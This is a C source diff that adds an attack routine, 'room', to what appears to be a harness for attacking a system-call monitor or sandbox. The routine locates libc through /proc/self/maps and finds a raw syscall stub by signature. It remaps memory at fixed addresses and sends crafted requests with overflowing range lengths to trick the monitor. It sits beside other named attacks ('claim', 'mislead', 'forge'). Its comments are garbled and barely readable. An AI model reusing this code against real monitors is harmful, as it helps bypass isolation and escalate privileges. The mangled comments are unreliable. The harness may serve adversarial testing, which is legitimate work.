@@ -257,6 +257,43 @@ static int64_t ask_on(uint32_t kind, const uint64_t args[6])
 	return got;
 }
 
+/*
+ * Code that is new for the monitor, with room for boards that ends where no board of ours can
+ * end: the last one would reach over it, and the next be told that there is room without end.
+ */
+static bool room(void)
+{
+	char *sign = memmem(inside.at, inside.len, REQUEST_SIGN, REQUEST_SIGN_LEN), line[512];
+	sleep_call *call = (sleep_call *)(sign - 25);
+	const uint64_t len = 0x40000;	/* LIBRARY_BOARDS */
+	uint64_t from = 0, to = 0, offset = 0;
+	FILE *maps = fopen("/proc/self/maps", "re");
+	char *at, *path = NULL;
+	int fd;
+
+	while (maps && !path && fgets(line, sizeof(line), maps))
+		if (sscanf(line, "%lx-%lx r-xp %lx", &from, &to, &offset) == 3 &&
+		    strstr(line, "/libc."))
+			path = strchr(line, '/');
+	if (!path)
+		return true;
+	path[strcspn(path, "\n")] = 0;
+	fd = open(path, O_RDONLY);
+	at = mmap(NULL, len + to - from, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (fd < 0 || at == MAP_FAILED)
+		return true;
+	for (uint64_t left = 47; left < 128; left += 16) {
+		/* As it is in the file, each time. */
+		call(SYS_mmap, (long)at + (long)len, (long)(to - from), PROT_READ | PROT_EXEC,
+		     MAP_PRIVATE | MAP_FIXED, fd, (struct request *)offset);
+		if (ask_on(REQ_MAPPED, (uint64_t[6]){ (uint64_t)at + len, to - from, len - left,
+						      (uint64_t)at, 0, 0 }) != -EINVAL)
+			return true;
+	}
+	return ask_on(REQ_SITE_HOT, (uint64_t[6]){ (uint64_t)at + len, (uint64_t)at,
+						   (len << 32) + len - 1, 0, 0, 0 }) != -EINVAL;
+}
+
 /* The root process' realm is asked for, by its number, and by an execve in its lane. */
 static bool claim(void)
 {
@@ -495,6 +532,8 @@ static bool attack(const char *how, pid_t parent, pid_t victim, uint64_t count)
 		return forge(parent);
 	if (!strcmp(how, "name"))
 		return name(victim);
+	if (!strcmp(how, "room"))
+		return room();
 	if (!strcmp(how, "claim"))
 		return claim();
 	if (!strcmp(how, "mislead"))
